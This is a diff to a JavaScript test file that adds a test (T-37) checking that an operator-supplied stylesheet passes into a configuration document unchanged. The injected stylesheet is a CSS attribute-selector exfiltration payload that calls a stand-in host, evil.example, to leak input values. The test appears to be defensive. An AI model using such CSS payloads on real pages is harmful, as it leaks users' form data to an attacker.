@@ -112,6 +112,15 @@ test('a required agreement appears when the fault asks for it', async () => {
   );
 });
 
+test('T-37 a sheet of the operator’s is in the document as it was written', async () => {
+  const usual = await configurationOf(world, visitor);
+  world.faults.css = 'input[value^="a"] { background: url(https://evil.example/a) }';
+  const found = await configurationOf(world, visitor);
+
+  assert.equal(usual.css, '');
+  assert.equal(found.css, world.faults.css);
+});
+
 test('a test may change the document, or send any text in its place', async () => {
   world.faults.rewriteConfiguration = (document) => ({ ...document, name: 'Changed' });
   assert.equal((await configurationOf(world, visitor)).name, 'Changed');
